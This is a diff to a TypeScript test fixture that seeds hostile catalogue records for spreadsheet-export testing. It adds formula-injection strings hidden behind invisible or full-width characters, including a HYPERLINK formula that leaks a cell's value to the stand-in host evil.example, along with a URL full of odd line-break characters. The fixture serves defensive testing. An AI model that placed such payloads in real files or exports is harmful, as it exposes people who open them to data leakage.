@@ -42,6 +42,29 @@ export const FORMULAS = [
   '\t=1+1',
   '\r=1+1',
 ] as const;
+/**
+ * Formulas behind characters a spreadsheet skips or reads as the sign itself: a NUL (LibreOffice
+ * drops it and evaluates the rest), a byte-order mark, a zero-width space, spaces, a next line, and
+ * the full-width signs.
+ */
+export const HIDDEN_FORMULAS = [
+  '\u0000=1+1',
+  '\u0000=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
+  '\uFEFF=1+1',
+  '\u200B+1+1',
+  ' \u00A0@SUM(1+1)',
+  '\u0085-1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1+1)',
+] as const;
+/**
+ * An address with every character some reader takes for a line break inside it: next line, the
+ * vertical tab, form feed, the file, group and record separators, and the line separator.
+ */
+export const MANY_LINES_URL =
+  'https://example.org/one\u0085two\u000Bthree\u000Cfour\u001Cfive\u001Dsix\u001Eseven\u2028eight';
 export const MANY_VALUES = 10_000;
 export const LONG_TEXT_LENGTH = 100 * 1024;
 
@@ -71,6 +94,8 @@ export interface HostileIds {
     emoji: number;
     manyValues: number;
     withLogin: number;
+    /** Formulas a spreadsheet could run, in its title, type, notes and a field's name. */
+    formulas: number;
   };
   pressItems: { javascriptLink: number; dataLink: number; markupLink: number };
 }
@@ -101,6 +126,7 @@ export function addHostileRecords(catalogue: Catalogue): HostileIds {
     emoji: seedId++,
     manyValues: seedId++,
     withLogin: seedId++,
+    formulas: seedId++,
   };
   const seed = (
     id: number,
@@ -173,6 +199,16 @@ export function addHostileRecords(catalogue: Catalogue): HostileIds {
         login_password: HOSTILE_SECRETS.loginPassword,
         active: false,
       },
+    ),
+    seed(
+      seeds.formulas,
+      MANY_LINES_URL,
+      {
+        Title: values(HIDDEN_FORMULAS[1]),
+        Notes: values(...HIDDEN_FORMULAS),
+        [HIDDEN_FORMULAS[0]]: values(...HIDDEN_FORMULAS.slice(2)),
+      },
+      { seed_type: HIDDEN_FORMULAS[0], created_by: HIDDEN_FORMULAS[2] },
     ),
   ];
 
